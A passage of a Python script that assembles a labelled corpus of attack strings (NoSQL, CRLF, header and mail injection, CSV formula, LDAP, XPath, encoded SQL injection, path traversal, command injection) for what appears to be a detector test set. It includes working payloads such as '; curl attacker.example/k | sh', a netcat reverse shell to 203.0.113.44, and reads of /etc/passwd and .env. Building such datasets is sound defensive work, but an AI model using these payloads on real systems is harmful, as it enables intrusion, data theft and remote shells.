  "{\"$where\": \"function(){return obj.pin.length>0}\"}",
  "'||'a'=='a",
  "\" || this.credit_limit > 0 || \"",
  "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}",
)
L("nosqli", "aggregation",
  "[{\"$lookup\": {\"from\": \"dispatch_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]",
  "{\"$group\": {\"_id\": \"$password\"}}",
  "{\"zone\": \"N\", \"$where\": \"1\"}",
  "[{\"$out\": \"riders\"}]",
  "{\"rider\": {\"$not\": {\"$type\": 2}}}",
  "{\"rider\":\"Kofi\",\"$jsonSchema\":{}}",
  "db.riders.find({}).forEach(printjson)",
)

# ===================================================================== crlf
L("crlf", "log-forging",
  "Delivered 10:52\n2024-04-03 10:53:01 INFO dispatcher=admin action=refund amount=500.00 job=4471 status=approved",
  "Ben\r\n[2024-04-05T11:00:00Z] AUTH OK user=root role=admin",
  "rider note%0a2024-04-06 09:12:44 WARN payout override by finance circle: IBAN=XX00 0000 0000",
  "Left at door%0d%0a127.0.0.1 - admin [06/Apr/2024:10:00:00 +0000] \"POST /admin/payouts HTTP/1.1\" 200 12",
  "4471\n\n=== END OF LOG ===\nCLEARED by audit",
  "Kofi%0D%0ALevel=INFO Msg=\"rider Kofi cleared of incident 0044\"",
  "waited 5 min\\r\\n2024-04-07 15:00:00 INFO login success user=dispatch_admin ip=10.0.0.1",
  "Signed by J.\u2028INFO shift override approved",
)
L("crlf", "header-injection",
  "/track/4471%0d%0aSet-Cookie:%20session=attacker-fixed; Path=/",
  "en-GB\r\nX-Forwarded-For: 127.0.0.1",
  "invoice.pdf\r\nContent-Disposition: attachment; filename=update.exe",
  "https://track.spokes-coop.example/j/4471%0D%0ALocation:%20https://attacker.example/login",
  "lang=fr%0d%0aAccess-Control-Allow-Origin:%20*%0d%0aAccess-Control-Allow-Credentials:%20true",
  "POD_4471%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
  "utf-8%0aRefresh:%200;url=//attacker.example/",
  "%%0a0aSet-Cookie:x=y",
)
L("crlf", "response-splitting",
  "4471%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
  "/route?x=1\r\n\r\n<html><body>Rider login moved: <a href=//attacker.example>here</a></body></html>",
  "zone%0D%0A%0D%0A%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
)
L("crlf", "mail-header",
  "Hartley & Sons\r\nBcc: list@attacker.example",
  "accounts@hartley.example%0ACc:%20everyone@attacker.example",
  "Invoice INV-2024-0412\nContent-Type: text/html\n\n<a href=\"https://attacker.example/pay\">Pay now</a>",
  "Priya <priya@spokes-coop.example>\r\nReply-To: finance@attacker.example",
  "Re: pickup\r\nSubject: URGENT new bank details for all invoices",
  "ops@spokes-coop.example%0d%0aTo:%20victim@attacker.example%0d%0a",
)
L("crlf", "csv-row-injection",
  "Left with neighbour\"\n4999,2024-04-30,Depot,Attacker,ghost,0.1,9999.00,\"refund",
  "Café Lune\r\n4471,2024-04-03,Harbour Print,Riverside Studio,Ben,2.4,-412.60,credit",
  "ok\",\"\"\n\"=HYPERLINK(\"\"http://attacker.example\"\")\",\"",
  "note\n,,,,,,,=cmd|' /C calc'!A0",
  "Mill Lane;\n9999;01.05.2024;Depot;Attacker;ghost;0;5000,00",
)

# =============================================================== ldap-xpath
L("ldap-xpath", "ldap",
  "*)(uid=*))(|(uid=*",
  "ben)(|(objectClass=*)",
  "admin)(&(password=*))",
  "*)(memberOf=cn=dispatch-admins,ou=groups,dc=spokes,dc=coop)(|(cn=*",
  "kofi*)(|(userPassword=a*)",
  "Priya)(!(cn=x)",
  "*))%00",
  "\\2a)(uid=\\2a",
  "x)(|(description=*pin*)(mail=*",
  "o'neill)(|(homeDirectory=*))",
)
L("ldap-xpath", "xpath",
  "' or '1'='1",
  "Ben' or name()='rider' or 'a'='b",
  "x' or count(/riders/rider)>0 or 'a'='b",
  "'] | //rider/password | a['",
  "zone N' and substring(//user[1]/pin,1,1)='4' and '1'='1",
  "' or string-length(//dispatch/user[1]/pw)>5 or ''='",
  "4471\"] | /* | //*[\"",
  "') or contains(//client/iban,'GB') or ('",
  "doc('http://attacker.example/x.xml')",
  "' or 1=1]/../../*[name()!='",
)

# ------------------------------------------ generated part (<10% of total)
# (a) percent-encode every byte once: sqli / traversal only
ENC_SQLI = [
    "4471' OR 'a'='a",
    "Dock 2' UNION SELECT login,pw FROM dispatch_users-- ",
    "x'; SELECT pg_sleep(6)--",
    "Ben' AND 1=(SELECT COUNT(*) FROM riders)-- ",
]
ENC_TRAV = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "pods/../../../app/.env",
]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


for p in ENC_SQLI:
    ATT["sqli"].append(("encoded+urlencode", pct_all(p), False))
for p in ENC_TRAV:
    ATT["traversal"].append(("encoded+urlencode", pct_all(p), False))

# (b) hand-written payload pool joined to hand-written theme prefixes
CMDI_PREFIXES = ["route.gpx", "POD_4471.pdf", "rota-week34.csv"]
CMDI_POOL = ["; curl attacker.example/k | sh", " && id", " | nc 203.0.113.44 9001 -e /bin/sh"]


def add_combo(cat, cls, prefixes, pool, n):
    got = 0
    have = set(v for _, v, _ in ATT[cat])
    tries = 0
    while got < n:
        tries += 1
        if tries > 5000:
            raise SystemExit("combo exhausted")
        v = rng.choice(prefixes) + rng.choice(pool)
        if v in have:
            continue
        have.add(v)
        ATT[cat].append((cls, v, False))
        got += 1


add_combo("cmdi", "separator+prefix", CMDI_PREFIXES, CMDI_POOL, 3)

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []
    for cat in ORDER:
        for cls, v, lit in ATT[cat]:
            if not (1 <= len(v) <= 2000):
                raise SystemExit("bad length: %r" % v)
            for ch in v:
                if ord(ch) < 32 and ch not in "\n\r\t":
                    raise SystemExit("control char in %r" % v)
            if v in seen:
                raise SystemExit("duplicate attack: %r" % v)
            if v in benign:
                raise SystemExit("attack equals benign: %r" % v)
            seen.add(v)
            rows.append((cat, cls, v))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hala-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
